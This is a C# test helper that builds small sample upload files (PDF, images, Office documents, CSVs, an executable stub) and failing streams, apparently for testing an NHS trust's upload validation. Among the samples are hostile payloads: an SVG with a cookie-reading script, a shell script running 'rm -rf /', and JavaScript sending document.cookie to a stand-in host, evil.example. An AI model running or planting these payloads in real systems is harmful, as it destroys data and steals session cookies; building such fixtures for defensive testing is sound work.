using System.IO.Compression;
using System.Text;

namespace QipTracker.Infrastructure.Tests.Files;

/// <summary>Tiny but real files, built byte by byte, as a trust's staff would upload them.</summary>
public static class SampleFiles
{
    public static byte[] Pdf() => Encoding.ASCII.GetBytes(
        "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n");

    // A 1×1 pixel image of each kind.
    public static byte[] Png() => Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");
    public static byte[] Gif() => Convert.FromBase64String("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7");
    public static byte[] Jpeg() => [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, (byte)'J', (byte)'F', (byte)'I', (byte)'F', 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00, 0xFF, 0xD9];

    public static byte[] Docx() => Zip("[Content_Types].xml", "_rels/.rels", "word/document.xml");
    public static byte[] Xlsx() => Zip("[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/worksheets/sheet1.xml");
    public static byte[] Pptx() => Zip("[Content_Types].xml", "_rels/.rels", "ppt/presentation.xml");
    public static byte[] DocxWithMacros() => Zip("[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/vbaProject.bin");
    public static byte[] PlainZip() => Zip("minutes.txt", "photos/ward.png");

    /// <summary>The 512-byte header of an OLE compound file, as older .doc and .xls files start.</summary>
    public static byte[] CompoundFile()
    {
        var bytes = new byte[512];
        new byte[] { 0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1 }.CopyTo(bytes, 0);
        return bytes;
    }

    public static byte[] Csv() => Encoding.UTF8.GetBytes("root_cause_ref,status,owner\nRC-001,Completed,Siân Jones\nRC-002,InProgress,Owen Price\n");
    public static byte[] CsvWithBom() => [.. Encoding.UTF8.GetPreamble(), .. Csv()];
    public static byte[] Utf16Csv() => [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes("root_cause_ref,status\nRC-001,Completed\n")];
    public static byte[] Latin1Csv() => Encoding.Latin1.GetBytes("owner\nSiân Jones\n"); // 'â' alone is not UTF-8
    public static byte[] Text() => Encoding.UTF8.GetBytes("Spot check of 20 CTG reviews on Ward 7: all signed off within 15 minutes.\n");
    public static byte[] Eml() => Encoding.ASCII.GetBytes("From: pmo@trust.example.nhs.uk\r\nTo: owner@trust.example.nhs.uk\r\nSubject: Audit results\r\n\r\nAttached.\r\n");

    public static byte[] Exe()
    {
        var bytes = new byte[256];
        "MZ"u8.CopyTo(bytes);
        bytes[2] = 0x90;
        return bytes;
    }

    public static byte[] Html() => Encoding.UTF8.GetBytes("<!DOCTYPE html>\n<html><body><script>fetch('/api/v1/trust')</script></body></html>\n");
    public static byte[] Svg() => Encoding.UTF8.GetBytes("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.cookie)</script></svg>");
    public static byte[] Script() => Encoding.UTF8.GetBytes("#!/bin/sh\nrm -rf /\n");
    public static byte[] JavaScript() => Encoding.UTF8.GetBytes("document.location = 'https://evil.example/?c=' + document.cookie;\n");

    private static byte[] Zip(params string[] entries)
    {
        using var memory = new MemoryStream();
        using (var zip = new ZipArchive(memory, ZipArchiveMode.Create, leaveOpen: true))
            foreach (var entry in entries)
            {
                using var writer = new StreamWriter(zip.CreateEntry(entry).Open());
                writer.Write(entry.EndsWith(".xml", StringComparison.Ordinal) ? "<?xml version=\"1.0\"?><x/>" : "content");
            }
        return memory.ToArray();
    }
}

/// <summary>A stream that cannot seek, like a browser upload read as it arrives.</summary>
public sealed class OneWayStream(byte[] bytes) : Stream
{
    private readonly MemoryStream _inner = new(bytes);
    public override bool CanRead => true;
    public override bool CanSeek => false;
    public override bool CanWrite => false;
    public override long Length => throw new NotSupportedException();
    public override long Position { get => throw new NotSupportedException(); set => throw new NotSupportedException(); }
    public override int Read(byte[] buffer, int offset, int count) => _inner.Read(buffer, offset, count);
    public override void Flush() { }
    public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();
    public override void SetLength(long value) => throw new NotSupportedException();
    public override void Write(byte[] buffer, int offset, int count) => throw new NotSupportedException();
}

/// <summary>An upload that breaks after some bytes, like a dropped connection.</summary>
public sealed class BrokenStream(int bytesBeforeFailure) : Stream
{
    private int _given;
    public override bool CanRead => true;
    public override bool CanSeek => false;
    public override bool CanWrite => false;
    public override long Length => throw new NotSupportedException();
    public override long Position { get => throw new NotSupportedException(); set => throw new NotSupportedException(); }

    public override int Read(byte[] buffer, int offset, int count)
    {
        if (_given >= bytesBeforeFailure) throw new IOException("The connection was reset.");
        var n = Math.Min(count, bytesBeforeFailure - _given);
        Array.Fill(buffer, (byte)'x', offset, n);
        _given += n;
        return n;
    }

    public override void Flush() { }
    public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();
    public override void SetLength(long value) => throw new NotSupportedException();
    public override void Write(byte[] buffer, int offset, int count) => throw new NotSupportedException();
}
